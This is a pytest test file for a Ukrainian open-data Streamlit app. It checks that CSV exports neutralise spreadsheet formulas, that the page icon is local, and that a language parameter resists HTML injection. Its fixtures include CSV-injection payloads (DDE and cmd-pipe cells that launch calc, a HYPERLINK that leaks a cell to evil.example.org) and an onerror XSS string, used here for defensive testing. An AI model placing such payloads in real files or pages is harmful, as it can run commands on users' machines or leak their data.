"""The public face gives a visitor nothing that runs as a formula and asks no third party.

A hostile tester found that the table toolbar's «Download as CSV» wrote ``=DDE(…)`` and
``+cmd|…`` cells as typed (Excel runs them), and that the page icon made every browser fetch
an SVG from fonts.gstatic.com. The browser half is test_public_face_browser.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from openpyxl import Workbook as XlsxWorkbook
from streamlit.proto.NewSession_pb2 import Config as ConfigProto
from streamlit.runtime.app_session import _populate_config_msg
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from odcore.exports.safe import is_formula_like, write_row
from odcore.schema.tabs import SPEC_BY_KEY
from odcore.ui.navigation import PAGES_DIR
from odcore.ui.shell import FAVICON, language_script
from tests.public.conftest import APP, TIMEOUT, PageRunner, run_public_page
from tests.public.workbooks import DEPT

DDE = '=DDE("cmd";"/C calc";"!A0")'
PIPE = "+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example.org/?leak="&A1;"деталі")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PUBLIC_PAGE_SCRIPTS = ("public_home.py", "public_products.py", "public_catalogue.py",
                       "public_programme.py")


def write_text_xlsx(path: Path, tabs: dict[str, list[dict[str, object]]]) -> Path:
    """Tabs of the contract written as string cells: a text starting with = stays text, as a
    department would type it after an apostrophe or in a text-formatted cell."""
    book = XlsxWorkbook()
    book.remove(book.active)
    for key, rows in tabs.items():
        spec = SPEC_BY_KEY[key]
        columns = [c for c in spec.columns if not c.extra]
        sheet = book.create_sheet(spec.title)
        write_row(sheet, 1, [c.header for c in columns])
        for number, row in enumerate(rows, start=2):
            write_row(sheet, number, [row.get(c.key) for c in columns])
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def _dataset(dataset_id: str, title: str) -> dict[str, object]:
    return {"id": dataset_id, "title": title, "department": DEPT, "status": "Оприлюднено",
            "formats": "CSV", "update_frequency": "Щороку",
            "last_updated": dt.date(2025, 6, 1), "first_published": dt.date(2024, 5, 1),
            "license": "CC BY 4.0", "portal_url": "https://data.gov.ua/dataset/x"}


def formula_source(tmp_path: Path) -> Path:
    """Published datasets and plan tasks whose text a spreadsheet program would run."""
    return write_text_xlsx(tmp_path / "formulas.xlsx", {
        "datasets": [_dataset("DS-1", DDE), _dataset("DS-2", PIPE)],
        "plan": [{"code": "4.3", "section": "4. Якість даних", "task": LINK,
                  "deadline": "Щоквартально", "executors_text": DEPT},
                 {"code": "4.4", "section": "4. Якість даних", "task": AT_SUM,
                  "deadline": "IV квартал 2025 року", "executors_text": DEPT}],
    })


@pytest.fixture
def public_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> PageRunner:
    """``public_page(source, script, query)``: one public page in public-only mode, with no
    developer's secrets (as tests/public's fixture of the same name)."""
    secrets = tmp_path / "empty-secrets.toml"
    secrets.write_text("", encoding="utf-8")
    monkeypatch.setenv("ODCORE_SECRETS_FILE", str(secrets))
    monkeypatch.delenv("ODCORE_OPEN_ACCESS", raising=False)
    monkeypatch.setenv("ODCORE_PUBLIC_ONLY", "1")

    def run(source: Path, script: str, query: dict[str, str] | None = None) -> AppTest:
        return run_public_page(source, script, monkeypatch, query)
    return run


@dataclass
class Media:
    """The media file managers and storages AppTest creates (Streamlit's own, in memory)."""

    managers: list[MediaFileManager] = field(default_factory=list)
    storages: list[MemoryMediaFileStorage] = field(default_factory=list)


@pytest.fixture
def media(monkeypatch: pytest.MonkeyPatch) -> Iterator[Media]:
    """What AppTest's media layer holds, so that a test can read what a download serves."""
    made = Media()

    class RecordingStorage(MemoryMediaFileStorage):
        def __init__(self, media_endpoint: str) -> None:
            super().__init__(media_endpoint)
            made.storages.append(self)

    class RecordingManager(MediaFileManager):
        def __init__(self, storage: MemoryMediaFileStorage) -> None:
            super().__init__(storage)
            made.managers.append(self)

    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage",
                        RecordingStorage)
    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", RecordingManager)
    yield made


def downloaded(at: AppTest, media: Media) -> list[tuple[str, bytes]]:
    """(file name, bytes) that each download button of the run serves; a file built on
    click (a deferred download) is built as a click asks the server to."""
    files: list[tuple[str, bytes]] = []
    for button in at.download_button:
        url = button.proto.url
        deferred = button.proto.deferred_file_id
        if not url and deferred:
            manager = next(m for m in reversed(media.managers)
                           if deferred in m._deferred_callables)
            url = manager.execute_deferred(deferred)
        name = url.rsplit("/", 1)[-1]
        for storage in media.storages:
            try:
                stored = storage.get_file(name)
            except Exception:  # noqa: BLE001 - another run's storage
                continue
            files.append((stored.filename or name, stored.content))
    return files


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_the_app_turns_off_streamlits_own_table_download_and_its_menu():
    # What the browser receives with every run (NewSession.config), from .streamlit/config.toml.
    sent = ConfigProto()
    _populate_config_msg(sent)
    assert sent.disable_data_export is True
    assert sent.toolbar_mode == ConfigProto.ToolbarMode.MINIMAL


@pytest.mark.parametrize(("script", "name", "shown"), [
    ("public_catalogue.py", "catalogue-", (DDE, PIPE)),
    ("public_programme.py", "programme-tasks-", (LINK, AT_SUM)),
])
def test_a_public_table_offers_its_rows_as_formula_safe_csv(public_page: PageRunner, tmp_path,
                                                            media, script, name, shown):
    at = public_page(formula_source(tmp_path), script)
    assert not at.exception
    tables = [frame.value for frame in at.dataframe]
    # The table shows the cells as typed; only the file escapes them.
    assert all(any(text in frame.to_numpy().ravel() for frame in tables) for text in shown)
    (data,) = [data for file, data in downloaded(at, media) if file.startswith(name)]
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Ukrainian Excel
    cells = csv_cells(data)
    for text in shown:
        assert "'" + text in cells
    assert [cell for cell in cells if is_formula_like(cell)] == []


def test_the_catalogue_download_holds_the_rows_the_filters_leave(public_page: PageRunner,
                                                                 tmp_path, media):
    at = public_page(formula_source(tmp_path), "public_catalogue.py")
    at.text_input(key="pub_catalogue_query").input("DDE").run()
    ((_, data),) = downloaded(at, media)
    cells = csv_cells(data)
    assert "'" + DDE in cells and "'" + PIPE not in cells


def test_the_page_icon_is_a_file_of_the_repository_not_an_icon_font():
    assert FAVICON.is_file() and FAVICON.read_bytes().startswith(b"\x89PNG")
    app = (Path(__file__).resolve().parents[2] / "app.py").read_text(encoding="utf-8")
    assert "page_icon" not in app  # set in odcore.ui.shell, from FAVICON


@pytest.mark.parametrize(("language", "expected"), [
    ("uk", "uk"), ("en", "en"), ('"><img src=x onerror=alert(1)>', "uk")])
def test_the_language_script_names_only_a_known_language(language, expected):
    assert language_script(language) == (
        f'<script>document.documentElement.lang = "{expected}";</script>')


@pytest.mark.parametrize("language", ["uk", "en"])
def test_every_public_page_sets_the_document_language(public_page: PageRunner, demo_path,
                                                      monkeypatch, language):
    monkeypatch.setenv("ODCORE_SOURCE", str(demo_path))
    for script in PUBLIC_PAGE_SCRIPTS:
        at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
        at.query_params["lang"] = language
        at.switch_page(str((PAGES_DIR / script).relative_to(APP.parent)))
        at.run()
        assert not at.exception
        bodies = [element.proto.body for element in at.sidebar.get("html")]
        assert bodies == [language_script(language)], script


def test_the_data_problems_tables_offer_formula_safe_csv_too(tmp_path, monkeypatch, media):
    # Internal pages lose the toolbar's download as well (one switch for the app); the
    # problems page, whose tables are there to be copied, offers the safe CSV instead.
    bad = _dataset("DS-9", "Зупинки") | {"status": DDE}
    source = write_text_xlsx(tmp_path / "bad.xlsx", {"datasets": [bad]})
    secrets = tmp_path / "empty-secrets.toml"
    secrets.write_text("", encoding="utf-8")
    monkeypatch.setenv("ODCORE_SECRETS_FILE", str(secrets))
    monkeypatch.setenv("ODCORE_SOURCE", str(source))
    monkeypatch.setenv("ODCORE_OPEN_ACCESS", "1")
    monkeypatch.delenv("ODCORE_PUBLIC_ONLY", raising=False)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.query_params["severity"] = ["error", "warning", "info"]
    at.switch_page("app_pages/problems.py")
    at.run()
    assert not at.exception
    files = [data for name, data in downloaded(at, media) if name == "problems.csv"]
    assert files
    cells = [cell for data in files for cell in csv_cells(data)]
    assert "'" + DDE in cells
    assert [cell for cell in cells if is_formula_like(cell)] == []
